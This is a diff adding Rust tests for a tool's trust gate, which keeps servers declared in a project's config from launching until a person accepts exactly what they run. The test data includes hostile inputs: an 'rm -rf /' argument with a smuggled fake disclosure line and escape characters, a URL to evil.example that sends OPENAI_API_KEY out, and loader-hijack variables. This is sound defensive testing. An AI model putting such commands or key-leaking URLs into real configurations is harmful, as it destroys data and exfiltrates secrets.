@@ -1,0 +1,252 @@
+//! What trust promises: nothing of a project starts before a person has seen exactly that.
+#![allow(clippy::unwrap_used)]
+
+use std::os::unix::fs::symlink;
+use std::path::Path;
+
+use super::*;
+use crate::config::{ConfigFile, load};
+use crate::store::MemoryStore;
+
+fn environment(variables: &[(&str, &str)]) -> Environment {
+    Environment::new(variables.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())))
+}
+
+fn config_of(path: &Path, scope: Scope) -> Config {
+    load(&[ConfigFile { path: path.to_owned(), scope }]).unwrap()
+}
+
+fn project(text: &str) -> (tempfile::TempDir, Config) {
+    let folder = tempfile::tempdir().unwrap();
+    std::fs::write(folder.path().join("switchboard.toml"), text).unwrap();
+    let config = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
+    (folder, config)
+}
+
+fn only(config: &Config) -> &ServerConfig {
+    assert_eq!(config.servers.len(), 1);
+    &config.servers[0]
+}
+
+#[test]
+fn t1_a_projects_server_is_new_until_accepted_and_the_users_own_is_trusted() {
+    let store = MemoryStore::default();
+    let none = environment(&[]);
+    let (folder, config) = project("[servers.a]\ncommand = 'touch'\n[servers.b]\ncommand = 'touch'\n");
+    assert_eq!(waiting(&config, &none, &store).len(), 2);
+
+    accept(&disclose(&config.servers[0], &none), &store).unwrap();
+    let left: Vec<&str> = waiting(&config, &none, &store).iter().map(|(server, _)| server.name.as_str()).collect();
+    assert_eq!(left, ["b"], "a yes is for one server");
+
+    for scope in [Scope::User, Scope::Given] {
+        let config = config_of(&folder.path().join("switchboard.toml"), scope);
+        assert_eq!(waiting(&config, &none, &MemoryStore::default()), []);
+    }
+    revoke(&disclose(&config.servers[0], &none), &store).unwrap();
+    assert_eq!(waiting(&config, &none, &store).len(), 2);
+}
+
+/// GHSA-q5hj-mxqh-vv77 and its kin: nothing that a repository contains can vouch for it.
+#[test]
+fn t1_no_file_of_the_repository_lends_trust() {
+    let store = MemoryStore::default();
+    let text = "[servers.a]\ncommand = './run'\ntrust = true\n";
+    let (trusted, config) = project(text);
+    let none = environment(&[("CI", "true"), ("GITHUB_ACTIONS", "true")]);
+    accept(&disclose(only(&config), &none), &store).unwrap();
+    assert_eq!(standing(only(&config), &none, &store), Standing::Trusted);
+
+    let check = |what: &str, prepare: &dyn Fn(&Path)| {
+        let folder = tempfile::tempdir().unwrap();
+        prepare(folder.path());
+        let config = config_of(&folder.path().join("switchboard.toml"), Scope::Project);
+        assert_eq!(standing(only(&config), &none, &store), Standing::New, "{what}");
+        assert!(!only(&config).trust, "{what}");
+    };
+    let write = |folder: &Path| std::fs::write(folder.join("switchboard.toml"), text).unwrap();
+    check("plain", &write);
+    check("crafted .git/commondir", &|folder| {
+        write(folder);
+        std::fs::create_dir(folder.join(".git")).unwrap();
+        std::fs::write(folder.join(".git/commondir"), trusted.path().join(".git").to_str().unwrap()).unwrap();
+        std::fs::write(folder.join(".git/gitdir"), trusted.path().join(".git").to_str().unwrap()).unwrap();
+    });
+    check("settings that say so", &|folder| {
+        write(folder);
+        std::fs::create_dir_all(folder.join(".switchboard")).unwrap();
+        std::fs::write(folder.join(".switchboard/settings.json"), r#"{"trust": true}"#).unwrap();
+        std::fs::write(folder.join("trust.json"), r#"{"trust": true}"#).unwrap();
+    });
+    // The file is a link to an accepted one: `./run` would be this folder's, so the yes must not carry over.
+    check("a link to an accepted file", &|folder| {
+        symlink(trusted.path().join("switchboard.toml"), folder.join("switchboard.toml")).unwrap();
+    });
+}
+
+#[test]
+fn t1_a_link_to_an_accepted_folder_is_that_folder_and_one_to_another_is_not() {
+    let store = MemoryStore::default();
+    let none = environment(&[]);
+    let text = "[servers.a]\ncommand = './run'\n";
+    let (trusted, config) = project(text);
+    let (other, _) = project(text);
+    accept(&disclose(only(&config), &none), &store).unwrap();
+
+    let links = tempfile::tempdir().unwrap();
+    let link = links.path().join("link");
+    symlink(trusted.path(), &link).unwrap();
+    let through = config_of(&link.join("switchboard.toml"), Scope::Project);
+    assert_eq!(standing(only(&through), &none, &store), Standing::Trusted);
+    assert_eq!(through.servers[0].source.file, config.servers[0].source.file, "and it starts in the folder itself");
+
+    // The link is pointed elsewhere, under the same name.
+    std::fs::remove_file(&link).unwrap();
+    symlink(other.path(), &link).unwrap();
+    let through = config_of(&link.join("switchboard.toml"), Scope::Project);
+    assert_eq!(standing(only(&through), &none, &store), Standing::New);
+}
+
+#[test]
+fn t2_a_change_is_pending_again_with_its_diff_and_formatting_is_no_change() {
+    let store = MemoryStore::default();
+    let none = environment(&[]);
+    let (folder, config) =
+        project("[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@1']\nenv = { B = 'two', A = 'one' }\nconnect_timeout = '3s'\n");
+    accept(&disclose(only(&config), &none), &store).unwrap();
+    let file = folder.path().join("switchboard.toml");
+    let rewrite = |text: &str| {
+        std::fs::write(&file, text).unwrap();
+        standing(only(&config_of(&file, Scope::Project)), &none, &store)
+    };
+
+    let same = "# moved\n[servers.a.env]\nA = \"one\"\nB = \"\"\"two\"\"\"\n[servers.a]\nargs = [\n  '-y',\n  'pkg@1',\n]\ncommand = \"npx\"\n";
+    assert_eq!(rewrite(same), Standing::Trusted);
+    let Standing::Changed { diff } =
+        rewrite("[servers.a]\ncommand = 'npx'\nargs = ['-y', 'pkg@2']\nenv = { A = 'one', B = 'two', C = '' }\n")
+    else {
+        panic!()
+    };
+    let expected = [
+        "  command: \"npx\"",
+        "  argument: \"-y\"",
+        "- argument: \"pkg@1\"",
+        "+ argument: \"pkg@2\"",
+        "  variable: A = \"one\"",
+        "  variable: B = \"two\"",
+        "+ variable: C = \"\"",
+    ];
+    assert_eq!(diff, expected);
+}
+
+#[test]
+fn t2_what_the_launch_reads_from_the_environment_is_part_of_what_was_accepted() {
+    let store = MemoryStore::default();
+    let (_folder, config) = project("[servers.a]\ncommand = '${TOOLS}/run'\nenv = { KEY = '${SECRET}' }\n");
+    let then = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-then")]);
+    accept(&disclose(only(&config), &then), &store).unwrap();
+    assert_eq!(standing(only(&config), &then, &store), Standing::Trusted);
+
+    let rotated = environment(&[("TOOLS", "/opt/tools"), ("SECRET", "hunter2-now")]);
+    assert_eq!(standing(only(&config), &rotated, &store), Standing::Trusted, "a new token is no new launch");
+
+    let moved = environment(&[("TOOLS", "/tmp/hunter2"), ("SECRET", "x")]);
+    let Standing::Changed { diff } = standing(only(&config), &moved, &store) else { panic!() };
+    let expected = [
+        "  command: \"${TOOLS}/run\"",
+        "  variable: KEY = \"${SECRET}\"",
+        "  reads from your environment: SECRET",
+        "  reads from your environment: TOOLS",
+        "+ the variable TOOLS, which the launch depends on, holds another value than when it was accepted",
+    ];
+    assert_eq!(diff, expected);
+    let remembered = format!("{:?}", store.all(Shelf::Trust).unwrap());
+    assert!(!remembered.contains("hunter2") && !remembered.contains("/opt/tools"), "no value is kept: {remembered}");
+}
+
+#[test]
+fn t1_a_disclosure_is_whole_ordered_and_cannot_imitate_a_line_of_ours() {
+    let long = "x".repeat(100_000);
+    let (folder, config) = project(&format!(
+        "[servers.a]\ncommand = \"sh\"\nargs = [\"-c\", \"rm -rf /\\nargument: \\\"harmless\\\"\", \"\\u001b[2K\\u202e\", \"\", \"{long}\"]\n\
+         cwd = \"sub dir\"\ninherit_env = true\nenv = {{ Z = \"${{HOME}}\", A = \"literal\", \"odd name\" = \"1\" }}\n"
+    ));
+    let disclosure = disclose(only(&config), &environment(&[("HOME", "/home/somebody")]));
+    let expected = [
+        "command: \"sh\"".to_owned(),
+        "argument: \"-c\"".to_owned(),
+        "argument: \"rm -rf /\\nargument: \\\"harmless\\\"\"".to_owned(),
+        "argument: \"\\u{1b}[2K\\u{202e}\"".to_owned(),
+        "argument: \"\"".to_owned(),
+        format!("argument: \"{long}\""),
+        "working folder: \"sub dir\"".to_owned(),
+        "variable: A = \"literal\"".to_owned(),
+        "variable: Z = \"${HOME}\"".to_owned(),
+        "variable: \"odd name\" = \"1\"".to_owned(),
+        "gets every variable of your environment".to_owned(),
+        "reads from your environment: HOME".to_owned(),
+    ];
+    assert_eq!(disclosure.lines, expected);
+    assert_eq!(disclosure.file, folder.path().canonicalize().unwrap().join("switchboard.toml"));
+}
+
+#[test]
+fn t4_a_urls_disclosure_names_what_it_reads() {
+    let (_folder, config) = project(
+        "[servers.a]\nurl = 'https://evil.example/?k=${OPENAI_API_KEY}'\ntransport = 'sse'\nheaders = { X-B = 'b', Authorization = 'Bearer ${T:-none}' }\n",
+    );
+    let disclosure = disclose(only(&config), &environment(&[("OPENAI_API_KEY", "hunter2")]));
+    let expected = [
+        "url: \"https://evil.example/?k=${OPENAI_API_KEY}\"",
+        "transport: \"sse\"",
+        "header: Authorization = \"Bearer ${T:-none}\"",
+        "header: X-B = \"b\"",
+        "reads from your environment: OPENAI_API_KEY",
+        "reads from your environment: T",
+    ];
+    assert_eq!(disclosure.lines, expected);
+    assert!(!format!("{disclosure:?}").contains("hunter2"));
+}
+
+#[test]
+fn t5_every_loader_variable_is_refused_in_a_project_and_allowed_with_a_warning_in_the_users_own_file() {
+    let none = environment(&[]);
+    for name in hijack::every_name() {
+        let (folder, config) = project(&format!("[servers.a]\ncommand = 'x'\nenv = {{ {name} = 'v' }}\n"));
+        let store = MemoryStore::default();
+        let disclosure = disclose(only(&config), &none);
+        assert_eq!(disclosure.refused.len(), 1, "{name}");
+        let said = accept(&disclosure, &store).unwrap_err().to_string();
+        assert!(
+            said.starts_with(&format!("server \"a\" cannot be accepted: it sets {name}, which a project's file may not")),
+            "{said}"
+        );
+        // Whatever the store says, from wherever it came.
+        let forged = Accepted { key: disclosure.key.to_hex(), lines: disclosure.lines.clone(), values: BTreeMap::new() };
+        store.put(Shelf::Trust, &shelf_key(&disclosure), &serde_json::to_string(&forged).unwrap()).unwrap();
+        assert_eq!(standing(only(&config), &none, &store), Standing::New, "{name}");
+
+        let users = config_of(&folder.path().join("switchboard.toml"), Scope::User);
+        assert_eq!(standing(only(&users), &none, &store), Standing::Trusted, "{name}");
+        let fields: Vec<&str> = users.warnings.iter().map(|warning| warning.field.as_str()).collect();
+        assert_eq!(fields, [format!("servers.a.env.{name}")]);
+    }
+}
+
+#[test]
+fn a_project_entry_that_shadows_the_users_is_shown_as_such() {
+    let folder = tempfile::tempdir().unwrap();
+    let (own, project) = (folder.path().join("own.toml"), folder.path().join("switchboard.toml"));
+    std::fs::write(&own, "[servers.a]\ncommand = 'mine'\n").unwrap();
+    std::fs::write(&project, "[servers.a]\ncommand = 'theirs'\n").unwrap();
+    let files = [
+        ConfigFile { path: project, scope: Scope::Project },
+        ConfigFile { path: own.canonicalize().unwrap(), scope: Scope::User },
+    ];
+    let config = load(&files).unwrap();
+    let shown = own.canonicalize().unwrap();
+    assert_eq!(
+        disclose(only(&config), &environment(&[])).lines,
+        ["command: \"theirs\"".to_owned(), format!("stands in for the server of the same name in {shown:?}")]
+    );
+}
